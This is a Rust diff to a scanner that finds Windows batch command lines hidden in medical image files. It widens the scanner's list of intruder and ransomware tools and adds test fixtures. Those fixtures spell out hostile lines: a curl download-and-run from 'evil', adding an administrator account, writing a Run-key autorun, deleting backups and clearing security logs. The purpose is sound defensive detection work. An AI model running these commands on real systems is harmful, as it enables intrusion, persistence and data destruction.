@@ -14,7 +14,8 @@
 //! start clinical sentences ("echo shows...") and count only with shell syntax on the line.
 //!
 //! `cmd.exe` runs a `.bat` line by line and ignores lines it cannot run, so for batch a
-//! line that starts with a Windows launcher is enough.
+//! line that starts with a program is enough: a Windows launcher or intruder's tool, or any
+//! program named with an extension cmd.exe runs.
 
 use pacsguard_events::{Severity, escape_bytes};
 
@@ -93,8 +94,14 @@ const WRAPPERS: [&[u8]; 20] = [
     b"strace", b"ltrace", b"watch",
 ];
 
-/// Windows launchers a batch line can start with (after an optional `@`).
-const BATCH: [&[u8]; 16] = [
+/// Windows programs a batch line can start with (after an optional `@`): the launchers of
+/// other interpreters, and the tools an intruder's or ransomware's batch file runs
+/// (download, delete backups and shadow copies, clear logs, stop services, add accounts,
+/// run a project or an installer; the living-off-the-land binaries of Windows). Review
+/// s23: `vssadmin` alone of these was known, and a line of `bcdedit`, `wevtutil cl`,
+/// `forfiles /c`, `curl -o` or `net user /add` was clean.
+const BATCH: [&[u8]; 51] = [
+    b"wsl",
     b"powershell",
     b"pwsh",
     b"cmd",
@@ -111,12 +118,109 @@ const BATCH: [&[u8]; 16] = [
     b"vssadmin",
     b"start",
     b"echo off",
+    b"forfiles",
+    b"bcdedit",
+    b"wevtutil",
+    b"wbadmin",
+    b"msbuild",
+    b"cmstp",
+    b"taskkill",
+    b"installutil",
+    b"regasm",
+    b"regsvcs",
+    b"odbcconf",
+    b"pcalua",
+    b"esentutl",
+    b"diskshadow",
+    b"fsutil",
+    b"icacls",
+    b"takeown",
+    b"psexec",
+    b"curl",
+    b"certreq",
+    b"msdt",
+    b"netsh",
+    b"robocopy",
+    b"cipher",
+    b"net",
+    b"net1",
+    b"reg",
+    b"sc",
+    b"tar",
+    b"ftp",
+    b"del",
+    b"erase",
+    b"rd",
+    b"rmdir",
 ];
 
-/// Launchers that are also words of clinical English ("CMD (common bile duct)", "Start of
-/// contrast injection"): a line starting with one counts only when what follows is
-/// command syntax (see [`command_like_argument`]).
-const AMBIGUOUS_BATCH: [&[u8]; 2] = [b"cmd", b"start"];
+/// Programs of [`BATCH`] that are also words of clinical or technical English ("CMD
+/// (common bile duct)", "Start of contrast injection", "net change", "SC injection", "TAR
+/// syndrome", "cURL library", "Cipher commands"), or so short that compressed data holds
+/// them (`WSL` and a tab in a gzip file): a line starting with one counts only when what
+/// follows is command syntax (see [`command_like_argument`]), or for the tools with
+/// subcommands one of them ([`BATCH_SUBCOMMANDS`]).
+const AMBIGUOUS_BATCH: [&[u8]; 15] = [
+    b"curl", b"cipher", b"wsl", b"cmd", b"start", b"net", b"net1", b"reg", b"sc", b"tar", b"ftp",
+    b"del", b"erase", b"rd", b"rmdir",
+];
+
+/// The subcommands an ambiguous tool of [`AMBIGUOUS_BATCH`] runs with as its first word:
+/// `net user x /add`, `reg add HKCU\...`, `sc stop MSSQLSERVER`.
+const BATCH_SUBCOMMANDS: [(&[u8], &[&[u8]]); 4] = [
+    (
+        b"net",
+        &[
+            b"user",
+            b"localgroup",
+            b"group",
+            b"use",
+            b"share",
+            b"stop",
+            b"start",
+            b"view",
+            b"accounts",
+            b"session",
+        ],
+    ),
+    (
+        b"net1",
+        &[
+            b"user",
+            b"localgroup",
+            b"group",
+            b"use",
+            b"share",
+            b"stop",
+            b"start",
+        ],
+    ),
+    (
+        b"reg",
+        &[
+            b"add", b"delete", b"query", b"save", b"export", b"import", b"load", b"copy",
+            b"restore",
+        ],
+    ),
+    (
+        b"sc",
+        &[
+            b"create", b"config", b"start", b"stop", b"delete", b"failure", b"query",
+        ],
+    ),
+];
+
+/// Extensions of a program name that `cmd.exe` runs, itself or through the program the
+/// extension is associated with by default (Windows Script Host, mshta, msiexec, the
+/// shell): a line of a batch file that starts with `calc.exe`, `\\host\share\x.exe` or
+/// `evil.vbs` runs it, whatever its name. `.ps1` opens in Notepad by default and is
+/// left to the PowerShell launchers; `.com` is left out: a line starting with a domain
+/// name (`EGENIX.COM SOFTWARE ...` in Python's library) is prose, and a program renamed
+/// `.com` is the rare case.
+const RUNNABLE_EXTENSIONS: [&[u8]; 15] = [
+    b".exe", b".bat", b".cmd", b".scr", b".pif", b".cpl", b".vbs", b".vbe", b".js", b".jse",
+    b".wsf", b".wsh", b".hta", b".msi", b".lnk",
+];
 
 /// Whether `rest` (what follows an ambiguous launcher) reads as its argument in a batch
 /// file rather than prose: `.exe`, a switch (`/c`, `/b`), a quoted title (`start ""`), or
@@ -145,7 +249,9 @@ fn command_like_argument(rest: &[u8]) -> bool {
         .unwrap_or(rest.len());
     let token = &rest[..token_end];
     let lower: Vec<u8> = token.to_ascii_lowercase();
-    let switch = token.len() >= 2 && token[0] == b'/' && token[1].is_ascii_alphabetic();
+    // `/c`, and the `-x` of the tools ported from Unix (`tar -xf`).
+    let switch =
+        token.len() >= 2 && matches!(token[0], b'/' | b'-') && token[1].is_ascii_alphabetic();
     let quoted = token.first() == Some(&b'"');
     let program = [
         ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".js", ".hta", ".scr", ".lnk",
@@ -2616,7 +2722,8 @@ fn shell_command(bytes: &[u8], at: usize) -> Command {
     }
 }
 
-/// The first command that starts with a Windows launcher, as `cmd.exe` would run it: at
+/// The first command that runs a program this search knows ([`batch_program`]), as
+/// `cmd.exe` would run it: at
 /// the start of a line, or after one of the operators that start another command on the
 /// same line (`&`, `&&`, `||`, `|`): `echo hi & powershell -enc ...` runs PowerShell
 /// whatever the first command was (the bytes of a DICOM header before it are a command
@@ -2686,9 +2793,9 @@ fn is_token_delimiter(b: u8) -> bool {
 
 /// The bytes a command [`batch_command_at`] can find starts with: what cmd.exe skips
 /// before a program ([`program_start`]: blanks, `@`, `;`, `,`, `=`, `(`, the `c`, `i` and
-/// `f` of `call`, `if` and `for`), the first letter of a launcher in [`BATCH`], the
-/// caret and quote cmd.exe removes from a program's name, in both cases, and what a path
-/// starts with (a drive letter, `\\`, `%`).
+/// `f` of `call`, `if` and `for`), the first letter or digit of a program's name (every
+/// letter and digit, in both cases), the caret and quote cmd.exe removes from a program's
+/// name, and what a path starts with (a drive letter, `\\`, `%`).
 const BATCH_COMMAND_START: [bool; 256] = {
     let mut table = [false; 256];
     let starts: &[u8] = b" \t\r@;,=(^\"cifCIF%!\\\x0b\x0c\xff";
@@ -2697,7 +2804,13 @@ const BATCH_COMMAND_START: [bool; 256] = {
         table[starts[i] as usize] = true;
         i += 1;
     }
-    // A program named by its path starts with its drive letter (`program_by_path`).
+    // A program named by its path starts with its drive letter (`program_by_path`), and
+    // any program named with its extension (`1.exe`) with a letter or a digit.
+    let mut b = b'0';
+    while b <= b'9' {
+        table[b as usize] = true;
+        b += 1;
+    }
     let mut b = b'A';
     while b <= b'Z' {
         table[b as usize] = true;
@@ -2715,127 +2828,171 @@ const BATCH_COMMAND_START: [bool; 256] = {
 };
 
 /// The command that starts at `at` (after a line's start or an operator), if its program
-/// is a Windows launcher.
+/// is one [`batch_program`] knows.
 fn batch_command_at(bytes: &[u8], at: usize, variables: &mut Variables) -> Option<Command> {
     #[cfg(test)]
     tests::LOOKED_AT.with(|n| n.set(n.get() + 1));
     let line = bytes.get(at..)?;
     let skip = program_start(line);
-    {
-        let start = &line[skip..];
-        // cmd.exe expands `%...%` in a line before it reads the command's name from it:
-        // the name is judged as expanded (a copy of this one line, when the name has a
-        // `%`), and a name built from a substring or replacement, or from input, is
-        // known only when it runs.
-        let expanded;
-        let start = match expand_program_name(bytes, at + skip, start, variables) {
-            None => start,
-            Some(Expanded::Line(line)) => {
-                expanded = line;
-                &expanded[program_start(&expanded)..]
-            }
-            Some(Expanded::Built(how)) => {
-                let offset = at + skip;
-                return Some(Command {
-                    offset,
-                    interpreter: "batch",
-                    severity: Severity::Alert,
-                    detail: format!(
-                        "a Windows command line (\"{}\") whose program name cmd.exe builds from {how} when the file is started as a batch file: what it runs is known only then",
-                        line_excerpt(bytes, offset)
-                    ),
-                });
-            }
-        };
-        // Most lines of binary data start with no launcher's first letter: one compare
-        // instead of sixteen (a '\n' is one byte in 256 of pixel data).
-        let first = start.first().map(u8::to_ascii_lowercase)?;
-        let drive = first.is_ascii_alphabetic() && start.get(1) == Some(&b':');
-        if !BATCH.iter().any(|launcher| launcher[0] == first)
-            && !matches!(first, b'^' | b'"' | b'%' | b'\\')
-            && !drive
-        {
-            return None;
+    let start = &line[skip..];
+    // cmd.exe expands `%...%` in a line before it reads the command's name from it:
+    // the name is judged as expanded (a copy of this one line, when the name has a
+    // `%`), and a name built from a substring or replacement, or from input, is
+    // known only when it runs.
+    let expanded;
+    let start = match expand_program_name(bytes, at + skip, start, variables) {
+        None => start,
+        Some(Expanded::Line(line)) => {
+            expanded = line;
+            &expanded[program_start(&expanded)..]
         }
-        // A program named by its path is matched by its file name (one copy of this
-        // line, for a first word that is a rooted path).
-        let renamed;
-        let start = match program_by_path(start) {
-            Some(line) => {
-                renamed = line;
-                &renamed[..]
-            }
-            None => start,
-        };
-        // cmd.exe drops its escape character and the quotes in a program's name before it
-        // looks the name up: `p^ower^shell`, `"powershell.exe"` run PowerShell. The line
-        // is read as cmd.exe reads it (a copy of this one line, when its first word has
-        // either: each line at most once).
-        let unescaped;
-        let start = match unescaped_program_name(start) {
-            Some(line) => {
-                unescaped = line;
-                &unescaped[..]
-            }
-            None => start,
-        };
-        for launcher in BATCH {
-            let Some(head) = start.get(..launcher.len()) else {
-                continue;
-            };
-            let next = start.get(launcher.len()).copied();
-            let name_ends = |b: Option<u8>| {
-                b.is_some_and(|b| matches!(b, b'\r' | b'\n') || is_token_delimiter(b))
-            };
-            let ends = name_ends(next) || {
-                // `powershell.exe`, `cmd.exe`
-                let after = &start[launcher.len()..];
-                after
-                    .get(..4)
-                    .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
-                    && name_ends(after.get(4).copied())
-            };
-            if head.eq_ignore_ascii_case(launcher)
-                && ends
-                && (!AMBIGUOUS_BATCH.contains(&launcher)
-                    || command_like_argument(&start[launcher.len()..]))
-            {
-                let offset = at + skip;
-                let interpreter = if launcher.starts_with(b"p") {
-                    "powershell"
-                } else {
-                    "batch"
-                };
-                let mut detail = format!(
-                    "a Windows command line (\"{}\") that cmd.exe runs if the file is started as a batch file",
+        Some(Expanded::Built(how)) => {
+            let offset = at + skip;
+            return Some(Command {
+                offset,
+                interpreter: "batch",
+                severity: Severity::Alert,
+                detail: format!(
+                    "a Windows command line (\"{}\") whose program name cmd.exe builds from {how} when the file is started as a batch file: what it runs is known only then",
                     line_excerpt(bytes, offset)
-                );
-                // An encoded command is base64: what it runs is said in the finding.
-                let line = &start[..memchr::memchr(b'\n', start).unwrap_or(start.len())];
-                if interpreter == "powershell"
-                    && let Some(script) = crate::powershell::encoded_command(line)
-                {
-                    let shown: String = script.chars().take(120).collect();
-                    detail.push_str(&format!(
-                        ", whose encoded command (-EncodedCommand) PowerShell decodes to \"{}\"{}",
-                        shown.escape_debug(),
-                        if crate::powershell::downloads_and_runs(&script) {
-                            ": it downloads and runs more"
-                        } else {
-                            ""
-                        }
-                    ));
-                }
-                return Some(Command {
-                    offset,
-                    interpreter,
-                    severity: Severity::Alert,
-                    detail,
-                });
-            }
+                ),
+            });
         }
+    };
+    // Most lines of binary data start with no program name's first byte: one compare
+    // instead of a list.
+    let first = *start.first()?;
+    // A name starting past ASCII is looked at only quoted or by its path (`"\x82.exe"`):
+    // half the lines of pixel data start with such a byte.
+    if !(first.is_ascii_alphanumeric() || matches!(first, b'^' | b'"' | b'%' | b'\\')) {
+        return None;
     }
-    None
+    // A program named by its path is matched by its file name (one copy of this
+    // line, for a first word that is a rooted path).
+    let renamed;
+    let start = match program_by_path(start) {
+        Some(line) => {
+            renamed = line;
+            &renamed[..]
+        }
+        None => start,
+    };
+    // cmd.exe drops its escape character and the quotes in a program's name before it
+    // looks the name up: `p^ower^shell`, `"powershell.exe"` run PowerShell. The line
+    // is read as cmd.exe reads it (a copy of this one line, when its first word has
+    // either: each line at most once).
+    let unescaped;
+    let start = match unescaped_program_name(start) {
+        Some(line) => {
+            unescaped = line;
+            &unescaped[..]
+        }
+        None => start,
+    };
+    let program = batch_program(start)?;
+    let offset = at + skip;
+    let interpreter = if matches!(program, b"powershell" | b"pwsh") {
+        "powershell"
+    } else {
+        "batch"
+    };
+    let mut detail = format!(
+        "a Windows command line (\"{}\") that cmd.exe runs if the file is started as a batch file",
+        line_excerpt(bytes, offset)
+    );
+    // An encoded command is base64: what it runs is said in the finding.
+    let line = &start[..memchr::memchr(b'\n', start).unwrap_or(start.len())];
+    if interpreter == "powershell"
+        && let Some(script) = crate::powershell::encoded_command(line)
+    {
+        let shown: String = script.chars().take(120).collect();
+        detail.push_str(&format!(
+            ", whose encoded command (-EncodedCommand) PowerShell decodes to \"{}\"{}",
+            shown.escape_debug(),
+            if crate::powershell::downloads_and_runs(&script) {
+                ": it downloads and runs more"
+            } else {
+                ""
+            }
+        ));
+    }
+    Some(Command {
+        offset,
+        interpreter,
+        severity: Severity::Alert,
+        detail,
+    })
+}
+
+/// The program of [`BATCH`] the command at the start of `start` runs (its name followed by
+/// a delimiter, the line's end, or `.exe`), an ambiguous one only with a command's
+/// argument; or, for a name of no tool known here, the name itself when it ends with an
+/// extension Windows runs ([`RUNNABLE_EXTENSIONS`]).
+fn batch_program(start: &[u8]) -> Option<&[u8]> {
+    let name_ends =
+        |b: Option<u8>| b.is_some_and(|b| matches!(b, b'\r' | b'\n') || is_token_delimiter(b));
+    for launcher in BATCH {
+        let Some(head) = start.get(..launcher.len()) else {
+            continue;
+        };
+        if !head.eq_ignore_ascii_case(launcher) {
+            continue;
+        }
+        let after = &start[launcher.len()..];
+        let ends = name_ends(after.first().copied()) || {
+            // `powershell.exe`, `cmd.exe`
+            after
+                .get(..4)
+                .is_some_and(|ext| ext.eq_ignore_ascii_case(b".exe"))
+                && name_ends(after.get(4).copied())
+        };
+        if !ends {
+            continue;
+        }
+        // An ambiguous name was judged here, with or without its `.exe`: `"cmd.exe";`
+        // in JavaScript is no command line.
+        return (!AMBIGUOUS_BATCH.contains(&launcher)
+            || command_like_argument(after)
+            || runs_subcommand(launcher, after))
+        .then_some(launcher);
+    }
+    // The name ends where cmd.exe ends it: a delimiter, an operator, a redirection, the
+    // line's end. Linear over a search: a name never runs past the next candidate's start.
+    let end = start
+        .iter()
+        .position(|&b| {
+            is_token_delimiter(b) || matches!(b, b'\r' | b'\n' | b'&' | b'|' | b'<' | b'>')
+        })
+        .unwrap_or(start.len());
+    let name = &start[..end];
+    let runnable = RUNNABLE_EXTENSIONS.iter().any(|ext| {
+        name.len() > ext.len() && name[name.len() - ext.len()..].eq_ignore_ascii_case(ext)
+    });
+    // A file name Windows accepts: no control character, none of its reserved characters
+    // (bytes past ASCII are letters of the console's code page: `\x82.exe` is `é.exe`).
+    let file_name = name
+        .iter()
+        .all(|&b| b >= 0x20 && b != 0x7F && !matches!(b, b'"' | b'*' | b'/' | b':' | b'?' | b'\\'));
+    (runnable && file_name && name[0] != b'.').then_some(name)
+}
+
+/// Whether `rest` (what follows `tool`'s name) starts with one of the subcommands of
+/// [`BATCH_SUBCOMMANDS`] the tool runs: `net user`, `reg add`.
+fn runs_subcommand(tool: &[u8], rest: &[u8]) -> bool {
+    let Some((_, subcommands)) = BATCH_SUBCOMMANDS.iter().find(|(name, _)| *name == tool) else {
+        return false;
+    };
+    let rest = &rest[rest
+        .iter()
+        .position(|&b| !is_token_delimiter(b))
+        .unwrap_or(rest.len())..];
+    subcommands.iter().any(|sub| {
+        rest.get(..sub.len())
+            .is_some_and(|head| head.eq_ignore_ascii_case(sub))
+            && rest
+                .get(sub.len())
+                .is_none_or(|&b| is_token_delimiter(b) || matches!(b, b'\r' | b'\n'))
+    })
 }
 
 /// Where the program of the command at the start of `line` begins, past what cmd.exe reads
@@ -3504,14 +3661,90 @@ mod tests {
                 String::from_utf8_lossy(line)
             );
         }
-        // A path to something else, or prose with a drive letter, is no command.
+        // A path to no program, or prose with a drive letter, is no command (a path to
+        // any program is one: see the next test).
         for line in [
-            &b"C:\\Windows\\System32\\notepad.exe readme.txt\r\n"[..],
-            b"C:\\Program Files\\cmd tools\\readme\r\n",
+            &b"C:\\Program Files\\cmd tools\\readme\r\n"[..],
             b"%PATH% is set\r\n",
             b"A: cmd prompt\r\n",
         ] {
             let text = [&b"x\r\n"[..], line].concat();
+            assert_eq!(
+                find_batch_command(&text),
+                None,
+                "{:?}",
+                String::from_utf8_lossy(line)
+            );
+        }
+    }
+
+    /// Review s23 (lead): cmd.exe runs whatever program a line of a batch file names, and
+    /// only the launchers of other interpreters (and `vssadmin`) were known here: each of
+    /// these lines, after a line break in a DICOM text element, was clean. They are the
+    /// lines of intruders' and ransomware's batch files: a program of any name (by its
+    /// extension, bare, by its path or on a share), downloads, backups and shadow copies
+    /// deleted, logs cleared, services stopped, accounts added, autoruns written.
+    #[test]
+    fn any_program_and_the_tools_of_intruders_are_batch_commands() {
+        for line in [
+            &b"calc.exe\r\n"[..],
+            b"1.exe\r\n",
+            b"&evil.bat\r\n",
+            b"call evil.cmd\r\n",
+            b"payload.vbs\r\n",
+            b"C:\\Users\\Public\\x.exe\r\n",
+            b"C:\\Windows\\System32\\notepad.exe readme.txt\r\n",
+            b"\\\\10.0.0.5\\share\\x.exe\r\n",
+            b"\"\\\\10.0.0.5\\share\\\x82t\x82.exe\"\r\n",
+            b"curl http://evil/x -o %TEMP%\\x.exe & %TEMP%\\x.exe\r\n",
+            b"forfiles /p c:\\windows /m notepad.exe /c calc\r\n",
+            b"net user hacker P@ss /add\r\n",
+            b"NET1 localgroup administrators hacker /add\r\n",
+            b"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe\r\n",
+            b"bcdedit /set {default} recoveryenabled no\r\n",
+            b"wbadmin delete catalog -quiet\r\n",
+            b"wevtutil cl security\r\n",
+            b"sc stop MSSQLSERVER\r\n",
+            b"taskkill /f /im sqlservr.exe\r\n",
+            b"msbuild evil.xml\r\n",
+            b"cmstp /s x.inf\r\n",
+            b"ftp -s:cmds.txt\r\n",
+            b"del /s /f /q c:\\*.bak\r\n",
+            b"cipher /w:c:\\\r\n",
+            b"tar -xf x.zip\r\n",
+            b"wsl -e sh -c id\r\n",
+            b"t^a^s^k^k^i^l^l /im x\r\n",
+        ] {
+            let text = [&b"\0\0x\r\n"[..], line].concat();
+            let found = find_batch_command(&text);
+            assert!(
+                found
+                    .as_ref()
+                    .is_some_and(|c| c.severity == Severity::Alert && c.interpreter == "batch"),
+                "{:?}: {found:?}",
+                String::from_utf8_lossy(line)
+            );
+        }
+        // Clinical and technical English that starts with these names, and code that
+        // names a launcher, is no command: a tool that is also a word needs a command's
+        // argument (a switch, a URL, a quoted or runnable name) or its subcommand.
+        for line in [
+            &b"Net change in volume: none\r\n"[..],
+            b"REG region of interest\r\n",
+            b"SC injection given\r\n",
+            b"TAR syndrome suspected\r\n",
+            b"cURL library updated\r\n",
+            b"Cipher commands\r\n",
+            b"Del Monte\r\n",
+            b"RD 2 mm\r\n",
+            b"FTP server down\r\n",
+            b"WSL\t\xb0\xbc\x1d\xf4;x\r\n",
+            b"\"cmd.exe\";\r\n",
+            b"EGENIX.COM SOFTWARE GMBH\r\n",
+            b".exe\r\n",
+            b"x.exe1\r\n",
+        ] {
+            let text = [&b"\0\0x\r\n"[..], line].concat();
             assert_eq!(
                 find_batch_command(&text),
                 None,
@@ -3534,8 +3767,10 @@ mod tests {
             b":!sh -c id\n",
             b"w !sh -c id\n",
         ];
-        let lines: [&[u8]; 9] = [
+        let lines: [&[u8]; 11] = [
             b"C:\\Windows\\System32\\cmd.exe /c calc\r\n",
+            b"1.exe\r\n",
+            b"net user x /add\r\n",
             b"%ComSpec% /c start evil.exe\r\n",
             b"\\\\?\\C:\\Windows\\mshta.exe http://x\r\n",
             b"powershell -enc AAAA\r\n",
@@ -3814,6 +4049,8 @@ mod tests {
             b"x\nfor /f %%a in (\"powershell\") do set p=%%a\n%p% -nop -c iex(x)\n",
             b"x\nsetlocal enabledelayedexpansion\nset p=powershell\n!p! -nop -c iex(x)\n",
             b"x\nset p=powershell\ncall %%p%% -nop -c iex(x)\n",
+            // A path with parentheses is kept whole: the program it names runs.
+            b"x\nset p=C:\\Program Files (x86)\\notepad.exe\n\"%p%\" readme.txt\n",
         ] {
             assert!(
                 find_batch_command(line).is_some(),
@@ -3822,9 +4059,8 @@ mod tests {
             );
         }
         for line in [
-            // A path with parentheses is kept whole; prose with `!` names nothing.
-            &b"x\nset p=C:\\Program Files (x86)\\notepad.exe\n\"%p%\" readme.txt\n"[..],
-            b"x\nset p=1\nWarning! check !q! now\n",
+            // Prose with `!` names nothing.
+            &b"x\nset p=1\nWarning! check !q! now\n"[..],
             b"x\n!p! -nop\n",
             b"x\n100%% done\n",
         ] {
